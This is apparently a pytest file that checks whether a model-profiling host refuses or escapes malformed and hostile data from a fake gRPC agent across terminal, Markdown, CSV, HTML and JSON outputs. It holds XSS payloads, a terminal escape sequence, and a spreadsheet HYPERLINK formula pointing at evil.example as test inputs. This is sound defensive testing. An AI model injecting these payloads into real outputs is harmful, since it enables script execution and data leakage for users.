"""The host trusts nothing an agent sends: numbers are checked, memory is bounded, text is escaped per format.

A fake agent (a real gRPC server on localhost:0, tests/fake_agent.py) streams what no healthy agent
sends; the real `host profile`, `host runs fetch` and `host report` run as subprocesses against it.
"""

from __future__ import annotations

import csv
import io
import json
import subprocess
import sys
from collections.abc import Callable, Iterator, Sequence
from pathlib import Path
from typing import Any

import pytest
from fake_agent import FakeAgentServer, job_batches
from faultlib import SQUEEZENET, isolated_env

from host.store.open import open_store
from host.store.sqlite import PendingJob
from protos import agent_pb2 as pb

# `host runs fetch` registers itself on import; importing it first works whether or not host.cli does.
_HOST = [sys.executable, "-c", "import host.cli.fetch, host.cli; host.cli.main()"]
_FAST = ["--runs", "20", "--warmup", "1", "--min-duration", "0", "--idle", "0", "-q"]
_TIMEOUT_S = 240.0

Mutate = Callable[[list[pb.MeasurementBatch]], None]

SCRIPT_TAG = "<script>alert(1)</script>"
IMG_TAG = "<img src=x onerror=alert(1)>"
FORMULA = '=HYPERLINK("http://evil.example/?leak","click")'
OSC_TITLE = "\x1b]0;pwned title\x07"
RICH_MARKUP = "[red]boom[/red]"


def _strict_json(text: str) -> Any:
    """json.loads that refuses NaN and ±Infinity, as every parser but Python's does."""

    def refuse(constant: str) -> Any:
        raise AssertionError(f"not strict JSON: bare {constant}")

    return json.loads(text, parse_constant=refuse)


def _script(mutate: Mutate | None = None) -> Callable[[str], Sequence[pb.MeasurementBatch]]:
    """A three-batch job of 30 inferences that ends OK, passed through `mutate` (same batches every call)."""

    def script(job_id: str) -> list[pb.MeasurementBatch]:
        batches = job_batches(job_id, [1, 2, 3], end=True)
        if mutate is not None:
            mutate(batches)
        return batches

    return script


@pytest.fixture
def agents() -> Iterator[Callable[[Mutate | None], FakeAgentServer]]:
    started: list[FakeAgentServer] = []

    def start(mutate: Mutate | None = None) -> FakeAgentServer:
        server = FakeAgentServer(_script(mutate))
        started.append(server)
        return server

    yield start
    for server in started:
        server.stop()


def _run(tmp: Path, *args: str, env: dict[str, str] | None = None) -> subprocess.CompletedProcess[str]:
    try:
        return subprocess.run(
            [*_HOST, *args],
            cwd=tmp,
            env=isolated_env(tmp, **(env or {})),
            text=True,
            capture_output=True,
            timeout=_TIMEOUT_S,
        )
    except subprocess.TimeoutExpired as err:
        raise AssertionError(f"host {' '.join(args)} did not finish in {_TIMEOUT_S:g} s") from err


def _profile(tmp: Path, *addresses: str, env: dict[str, str] | None = None) -> subprocess.CompletedProcess[str]:
    devices = [arg for address in addresses for arg in ("--device", address)]
    return _run(tmp, "profile", str(SQUEEZENET), *devices, *_FAST, "--json", str(tmp / "run.json"), env=env)


def _entries(tmp: Path) -> dict[str, dict[str, Any]]:
    document = _strict_json((tmp / "run.json").read_text())
    return {entry["device"]: entry for entry in document["devices"]}


def _power(batches: list[pb.MeasurementBatch], values: list[float]) -> None:
    t0 = batches[1].latency[0].start_ns[0]
    batches[1].series.add(
        name="VDD_IN",
        kind=pb.POWER_MW,
        role="total",
        sensor="ina3221",
        t_ns=[t0 + i * 1_000_000 for i in range(len(values))],
        value=values,
    )


@pytest.mark.parametrize(
    ("mutate", "expected"),
    [
        (lambda b: _power(b, [5000.0, float("nan"), 5000.0]), "non-finite value (nan)"),
        (lambda b: _power(b, [5000.0, float("-inf")]), "non-finite value (-inf)"),
        (lambda b: b[2].end.MergeFrom(pb.JobEnd(peak_rss_bytes=9_223_372_036_854_775_807)), "peak RSS"),
        (lambda b: _power(b, [1e30]), "outside -1e+07..1e+07 mW"),
    ],
    ids=["nan-power", "minus-inf-power", "huge-peak-rss", "absurd-power"],
)
def test_non_finite_or_absurd_numbers_fail_that_device_and_the_json_stays_strict(
    tmp_path: Path, agents: Callable[[Mutate | None], FakeAgentServer], mutate: Mutate, expected: str
) -> None:
    hostile, healthy = agents(mutate), agents(None)

    result = _profile(tmp_path, hostile.address, healthy.address)

    assert result.returncode == 1, result.stderr
    assert "Traceback" not in result.stderr
    entries = _entries(tmp_path)  # strict: no bare NaN / Infinity anywhere
    bad, good = entries[hostile.address], entries[healthy.address]
    assert bad["status"] == "error" and expected in bad["error"] and "\n" not in bad["error"]
    assert bad["energy"]["avg_power_w"] is None and bad["peak_rss_mb"] is None
    assert good["status"] == "ok" and good["n_inferences"] == 30
    # Outcome lines under the table: the label padded to a column, then "DEVICE: text" (host/run/final_table.py).
    lines = result.stdout.splitlines()
    errors = [ln for ln in lines if ln.split(None, 1)[:1] == ["error"] and f" {hostile.address}:" in ln]
    assert len(errors) == 1 and expected in errors[0]


def test_a_job_over_the_sample_cap_ends_that_device_with_a_clear_error(
    tmp_path: Path, agents: Callable[[Mutate | None], FakeAgentServer]
) -> None:
    def flood(batches: list[pb.MeasurementBatch]) -> None:
        t0 = batches[1].latency[0].start_ns[0]
        _power(batches, [4000.0] * 2000)
        batches[2].series.add(
            name="VDD_IN",
            kind=pb.POWER_MW,
            t_ns=[t0 + 3_000_000_000 + i for i in range(2000)],
            value=[4000.0] * 2000,
        )

    flooding, healthy = agents(flood), agents(None)

    result = _profile(tmp_path, flooding.address, healthy.address, env={"EDGEPROF_MAX_SAMPLES_PER_JOB": "3000"})

    assert result.returncode == 1, result.stderr
    entries = _entries(tmp_path)
    error = entries[flooding.address]["error"]
    assert "more than 3000 samples" in error and "EDGEPROF_MAX_SAMPLES_PER_JOB" in error, error
    assert entries[healthy.address]["status"] == "ok"


def test_runs_fetch_all_reports_mismatched_arrays_for_that_job_and_collects_the_others(
    tmp_path: Path, agents: Callable[[Mutate | None], FakeAgentServer]
) -> None:
    def mismatch(batches: list[pb.MeasurementBatch]) -> None:
        del batches[1].latency[0].end_ns[-3:]

    broken, healthy, hostile = agents(mismatch), agents(None), agents(_failing_with_hostile_error)
    store = open_store(Path(isolated_env(tmp_path)["EDGEPROF_DB"]))
    model = {"model": {"path": str(SQUEEZENET), "format": "onnx", "sha256": "0" * 64, "size_bytes": 1}}
    # The broken run sorts first, so a crash there would also have stopped the healthy one.
    store.add_pending(PendingJob("20250101-000000-aaaaaa", "board-a", broken.address, "a" * 32, model, {}))
    store.add_pending(PendingJob("20250101-000001-bbbbbb", "board-b", healthy.address, "b" * 32, model, {}))
    store.add_pending(PendingJob("20250101-000002-cccccc", "board-c", hostile.address, "c" * 32, model, {}))
    store.close()

    result = _run(tmp_path, "runs", "fetch", "--all", "--reconnect", "5")

    assert result.returncode == 1, result.stderr
    assert "Traceback" not in result.stderr
    lines = result.stdout.splitlines()
    bad = [line for line in lines if "board-a" in line]
    assert len(bad) == 1 and "error" in bad[0] and "7 end times" in bad[0], result.stdout
    assert any("board-b" in line and "ok" in line and "30 inferences" in line for line in lines), result.stdout
    assert "\x1b" not in result.stdout and "\x07" not in result.stdout  # the agent's error text is printed inert
    assert any("board-c" in line and RICH_MARKUP in line and "error heading" in line for line in lines)
    store = open_store(Path(isolated_env(tmp_path)["EDGEPROF_DB"]))
    try:
        good_run = store.load_run("20250101-000001-bbbbbb")
        bad_run = store.load_run("20250101-000000-aaaaaa")
    finally:
        store.close()
    assert good_run.document["devices"][0]["n_inferences"] == 30
    assert bad_run.document["devices"][0]["status"] == "error"
    kept = bad_run.raw.get("board-a")
    assert kept is None or (kept.start_ns.size == 0 and not kept.series)  # nothing of the refused job kept


def _hostile_text(batches: list[pb.MeasurementBatch]) -> None:
    """Valid numbers, hostile strings wherever an agent writes text."""
    info = batches[0].info
    info.runtime = SCRIPT_TAG
    info.execution_providers.append(FORMULA)
    batches[0].phases.add(phase=pb.SETTLE, start_ns=1, end_ns=2, detail=f"not settled: {IMG_TAG}\n# injected heading")
    end = batches[2].end
    end.op_by_type.add(op_type=f"{IMG_TAG}\n# op heading | [x](http://evil.example)", total_us=10.0, calls=3)
    end.op_by_type.add(op_type=FORMULA, total_us=5.0, calls=1)


def _failing_with_hostile_error(batches: list[pb.MeasurementBatch]) -> None:
    batches[2].end.status = pb.JobEnd.ERROR
    batches[2].end.error = f"{OSC_TITLE}{RICH_MARKUP} {FORMULA}\n# error heading {SCRIPT_TAG}"


def test_agent_text_is_escaped_in_the_terminal_and_every_report_format(
    tmp_path: Path, agents: Callable[[Mutate | None], FakeAgentServer]
) -> None:
    texty, failing = agents(_hostile_text), agents(_failing_with_hostile_error)

    result = _profile(tmp_path, texty.address, failing.address)
    reports = {fmt: tmp_path / f"report.{fmt}" for fmt in ("md", "csv", "html", "json")}
    for fmt, path in reports.items():
        made = _run(tmp_path, "report", "--last", "-f", fmt, "-o", str(path))
        assert made.returncode == 0, made.stderr

    # Terminal: no escape sequence reaches it, rich markup is shown as text, the error stays one line.
    assert result.returncode == 1
    assert "\x1b" not in result.stdout + result.stderr and "\x07" not in result.stdout + result.stderr
    error_lines = [line for line in result.stdout.splitlines() if line.startswith("error")]
    failing_line = next(line for line in error_lines if failing.address in line)
    assert RICH_MARKUP in failing_line and "error heading" in failing_line
    # Markdown: no tag, no heading, no link, no table cell added by the agent.
    md = reports["md"].read_text()
    for raw in (SCRIPT_TAG, IMG_TAG, "<img", "<script", "[x](http"):
        assert raw not in md
    assert not [line for line in md.splitlines() if line.lstrip().startswith("#") and "heading" in line]
    assert "&lt;img src=x onerror=alert(1)&gt;" in md and "&lt;script&gt;" in md
    op_rows = [line for line in md.splitlines() if "op heading" in line]
    assert len(op_rows) == 1 and op_rows[0].count(" | ") == 3, op_rows  # the agent's pipe did not add a cell
    # CSV: no cell a spreadsheet would run as a formula.
    rows = list(csv.reader(io.StringIO(reports["csv"].read_text())))
    cells = [cell for row in rows[1:] for cell in row if cell and not _is_number(cell)]
    assert not [cell for cell in cells if cell[0] in "=+-@\t\r"], cells
    assert any(cell.startswith("'" + FORMULA) for cell in cells)
    # HTML: the agent's markup is text.
    html = reports["html"].read_text()
    assert SCRIPT_TAG not in html and "<img" not in html and "&lt;script&gt;" in html
    # JSON: the text itself is kept as the agent sent it (JSON escapes it), and the document is strict.
    document = _strict_json(reports["json"].read_text())
    by_device = {d["device"]: d for d in document["devices"]}
    assert by_device[texty.address]["runtime"].startswith(SCRIPT_TAG)


def _is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True
